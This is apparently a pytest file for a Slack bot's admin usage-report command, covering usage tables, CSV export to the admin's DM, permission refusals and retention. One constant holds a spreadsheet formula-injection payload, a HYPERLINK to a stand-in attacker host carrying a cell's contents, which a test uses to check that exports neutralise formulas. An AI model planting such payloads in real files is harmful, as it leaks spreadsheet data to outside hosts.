"""``/agent-limits usage`` end to end: real runs on a drained worker with the fake LLM, thumbs pressed, then signed
slash commands into the running app; the export's CSV as the fake Slack received it in the admin's DM."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from typing import Any

import aiohttp
import redis.asyncio as aioredis

from bot.identity import Workspace
from bot.keys import AppKeys
from bot.serve.service import Service
from bot.settings import Settings
from bot.thread.render import FEEDBACK_ACTION_ID
from bot.workspace import USAGE
from tests.bot.conftest import SECRET, App
from tests.fakes.openai_server import FakeOpenAI, text, tool_calls
from tests.fakes.slack_api import FakeSlack
from tests.signing import action_body, command_body, event_body, mention, next_ts, signed_headers

ADMIN = "UADMIN"
#: The table's columns after the member (``by tool`` adds calls and errors before the stop reasons).
COLUMNS = ("runs", "steps", "tokens", "spend", "up", "down")


async def limits(app: App, words: str, *, user: str = ADMIN, team: str = "T0001", enterprise: str | None = None) -> str:
    body = command_body(command="/agent-limits", text=words, user=user, team_id=team, enterprise_id=enterprise)
    headers = signed_headers(SECRET, body, content_type="application/x-www-form-urlencoded")
    async with app.http.post(f"{app.url}/slack/events", data=body, headers=headers) as resp:
        assert resp.status == 200, await resp.text()
        answer = await resp.json()
    assert answer["response_type"] == "ephemeral"
    return str(answer["text"])


def table(reply: str) -> dict[str, dict[str, str]]:
    """The reply's table: member -> column -> cell (cells are two or more spaces apart)."""
    assert reply.count("```") == 2, reply
    lines = reply.split("```")[1].strip("\n").splitlines()
    head = re.split(r"\s{2,}", lines[0].strip())
    names = head if len(head) == len(re.split(r"\s{2,}", lines[1].strip())) else ["", *head]
    rows = {}
    for line in lines[1:]:
        cells = re.split(r"\s{2,}", line.strip())
        rows[cells[0]] = dict(zip(names[1:], cells[1:], strict=True))
    return rows


async def ask(app: App, fake_slack: FakeSlack, task: str, *, user: str, channel: str = "C1", team: str = "T0001",
              enterprise: str | None = None) -> str:
    """Mention the bot, run the turn to its end; the thread's ts."""
    ts = next_ts()
    await app.post_event(event_body(mention(text=f"<@UBOT> {task}", ts=ts, user=user, channel=channel, team=team),
                                    team_id=team, enterprise_id=enterprise))
    await app.drain()
    return ts


async def thumb(app: App, fake_slack: FakeSlack, ts: str, vote: str, *, user: str, channel: str = "C1") -> None:
    """Press 👍 or 👎 under the run's answer; back once the press is recorded (the presser is thanked)."""
    final = next(m for m in reversed(fake_slack.thread_messages(channel, ts)) if _thumbs(m.blocks))
    [buttons] = _thumbs(final.blocks)
    value = buttons["positive_button" if vote == "up" else "negative_button"]["value"]
    resp = await app.post_form(action_body(action_id=FEEDBACK_ACTION_ID, value=value, user=user,
                                           channel=channel, message_ts=final.ts, thread_ts=ts))
    assert resp.status == 200
    await fake_slack.wait_for("chat.postEphemeral", predicate=lambda c: c.params.get("user") == user
                              and "feedback" in str(c.params.get("text")))


def _thumbs(blocks: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [e for b in blocks if b.get("type") == "context_actions" for e in b.get("elements", [])]


async def two_runs(app: App, fake_slack: FakeSlack, fake_openai: FakeOpenAI) -> None:
    """U1 in C1: a calculator call then the answer (thumbs up); U2 in C2: a direct answer (thumbs down)."""
    fake_openai.queue(tool_calls(("calculator", {"expression": "6*7"}), content="Multiply."), text("42"),
                      text("Hello."))
    first = await ask(app, fake_slack, "what is six times seven?", user="U1")
    second = await ask(app, fake_slack, "say hello", user="U2", channel="C2")
    fake_slack.users[ADMIN] = {"is_admin": True}
    await thumb(app, fake_slack, first, "up", user="U1")
    await thumb(app, fake_slack, second, "down", user="U2", channel="C2")


async def test_an_admin_reads_runs_steps_tokens_spend_stops_and_thumbs_by_dimension(
    app: App, fake_slack: FakeSlack, fake_openai: FakeOpenAI
) -> None:
    await two_runs(app, fake_slack, fake_openai)

    total = await limits(app, "usage today")
    assert "*Usage in this workspace, today*" in total
    [(member, row)] = table(total).items()
    assert member == "all runs"
    assert {k: row[k] for k in ("runs", "steps", "up", "down")} == {"runs": "2", "steps": "3", "up": "1", "down": "1"}
    assert row["stop reasons"] == "final_answer 2"
    assert int(row["tokens"].replace(",", "")) > 0 and row["spend"].startswith("$")

    by_user = table(await limits(app, "usage today by user"))
    assert set(by_user) == {"U1", "U2"}
    assert (by_user["U1"]["runs"], by_user["U1"]["steps"], by_user["U1"]["up"], by_user["U1"]["down"]) == (
        "1", "2", "1", "0")
    assert (by_user["U2"]["steps"], by_user["U2"]["down"]) == ("1", "1")

    assert set(table(await limits(app, "usage by channel"))) == {"C1", "C2"}  # month, the default
    by_model = table(await limits(app, "usage week by model"))
    assert list(by_model) == [app.service.settings.openai_model] and by_model[app.service.settings.openai_model][
        "runs"] == "2"

    by_tool = table(await limits(app, "usage today by tool"))
    assert list(by_tool) == ["calculator"]
    assert (by_tool["calculator"]["runs"], by_tool["calculator"]["calls"], by_tool["calculator"]["errors"],
            by_tool["calculator"]["up"]) == ("1", "1", "0", "1")

    month = datetime.now(UTC).strftime("%Y-%m")
    assert table(await limits(app, f"usage {month} by user")) == by_user


async def test_the_export_lands_in_the_admins_dm_as_csv(
    app: App, fake_slack: FakeSlack, fake_openai: FakeOpenAI
) -> None:
    await two_runs(app, fake_slack, fake_openai)
    reply = await limits(app, "usage export today by user")
    assert "on its way to your direct messages" in reply
    await fake_slack.wait_for("files.completeUploadExternal")
    [upload] = [f for f in fake_slack.uploads.values() if f.shared_at]
    assert upload.channel == f"D{ADMIN}" and upload.filename.endswith("-by-user.csv")
    [heading] = [m for m in fake_slack.messages if m.channel == f"D{ADMIN}"]
    assert f"Your usage export: `{upload.filename}`" in heading.text
    rows = {r["member"]: r for r in csv.DictReader(io.StringIO(upload.text))}
    assert set(rows) == {"U1", "U2"}
    assert (rows["U1"]["runs"], rows["U1"]["steps"], rows["U1"]["thumbs_up"], rows["U1"]["stop_final_answer"]) == (
        "1", "2", "1", "1")
    assert rows["U2"]["thumbs_down"] == "1" and rows["U2"]["dimension"] == "user"
    assert float(rows["U1"]["spend_usd"]) > 0


async def test_members_are_refused_and_get_no_export(app: App, fake_slack: FakeSlack) -> None:
    fake_slack.users["UMEMBER"] = {"is_admin": False}
    for words in ("usage", "usage export week by tool"):
        reply = await limits(app, words, user="UMEMBER")
        assert "can see usage reports" in reply and "```" not in reply
    assert fake_slack.calls_of("files.getUploadURLExternal") == []


async def test_a_bad_period_or_dimension_gets_the_usage_and_nothing_else(app: App, fake_slack: FakeSlack) -> None:
    fake_slack.users[ADMIN] = {"is_admin": True}
    reply = await limits(app, "usage yesterday")
    assert reply.startswith("`usage` takes a period (`today`, `week`, `month` or a month like `2026-11`)")
    assert "got `yesterday`" in reply and USAGE in reply
    assert "`by` takes one of: user, channel, model, tool, schedule." in await limits(app, "usage month by team")
    assert "2099-01 has not started yet." in await limits(app, "usage 2099-01")
    assert "Usage is kept for 400 days (`AGENT_USAGE_RETENTION_DAYS`); 2020-01 is older." in await limits(
        app, "usage 2020-01")
    assert "this workspace is not part of one" in await limits(app, "usage org")
    assert "No runs were counted in this period." in await limits(app, "usage today")


async def test_an_org_admin_sums_the_orgs_workspaces(
    app: App, fake_slack: FakeSlack, fake_openai: FakeOpenAI
) -> None:
    fake_slack.users.update({"UA": {"team_id": "TA"}, "UB": {"team_id": "TB"},
                             "UORG": {"team_id": "TA", "enterprise_user": {"is_admin": True}},
                             "UWSADMIN": {"team_id": "TA", "is_admin": True}})
    # Before any other workspace of the org has run the agent: one workspace, said in the singular.
    alone = await limits(app, "usage today org", user="UORG", team="TA", enterprise="E1")
    assert "*Usage across the org's 1 workspace, today*" in alone
    fake_openai.queue(text("A."), text("B."))
    await ask(app, fake_slack, "hi", user="UA", team="TA", enterprise="E1")
    await ask(app, fake_slack, "hi", user="UB", team="TB", enterprise="E1")

    org = await limits(app, "usage today by user org", user="UORG", team="TA", enterprise="E1")
    assert "across the org's 2 workspaces" in org
    assert set(table(org)) == {"UA", "UB"}
    assert set(table(await limits(app, "usage today by user", user="UORG", team="TA", enterprise="E1"))) == {"UA"}
    refused = await limits(app, "usage today org", user="UWSADMIN", team="TA", enterprise="E1")
    assert "Only the org's admins and owners can see the org's usage." in refused


async def test_the_counters_expire_after_the_retention(
    app: App, fake_slack: FakeSlack, fake_openai: FakeOpenAI, redis_client: aioredis.Redis
) -> None:
    fake_openai.queue(text("ok"))
    await ask(app, fake_slack, "hi", user="U1")
    key = AppKeys(app.service.settings.redis_key_prefix).usage_day(
        Workspace("T0001"), datetime.now(UTC).strftime("%Y-%m-%d"), "user")
    ttl = await redis_client.ttl(key)
    assert 400 * 86_400 < ttl <= 401 * 86_400


FORMULA_MODEL = '=HYPERLINK("https://evil.example/?"&A1,"open")'


async def test_the_export_opens_no_formula_and_keeps_numbers_numbers(
    settings: Settings, fake_slack: FakeSlack, fake_openai: FakeOpenAI
) -> None:
    """A name the export holds (here the model's, as the operator spelled it) that starts like a formula is text in
    a spreadsheet: quoted, after a ``'``. Counts and dollars are bare numbers. (User and channel ids are Slack's.)"""
    hostile = settings.model_copy(update={"openai_model": FORMULA_MODEL})
    async with Service(hostile, "web") as service, aiohttp.ClientSession() as http:
        app = App(service, http)
        fake_openai.queue(text("one"))
        await ask(app, fake_slack, "hi", user="U1")
        fake_slack.users[ADMIN] = {"is_admin": True}
        await limits(app, "usage export today by model")
        await fake_slack.wait_for("files.completeUploadExternal")
    [upload] = [f for f in fake_slack.uploads.values() if f.shared_at]
    header, line = upload.text.splitlines()
    assert line.startswith(f'"{datetime.now(UTC).date()}",') and header.startswith('"first_day","last_day"')
    cells = next(csv.reader([line]))
    quoted = FORMULA_MODEL.replace('"', '""')
    assert cells[3] == f"'{FORMULA_MODEL}" and f',"\'{quoted}",' in line
    runs, spend = next(csv.reader([line], quoting=csv.QUOTE_NONNUMERIC))[4:8:3]
    assert runs == 1 and isinstance(spend, float) and spend > 0  # written bare: a spreadsheet reads numbers
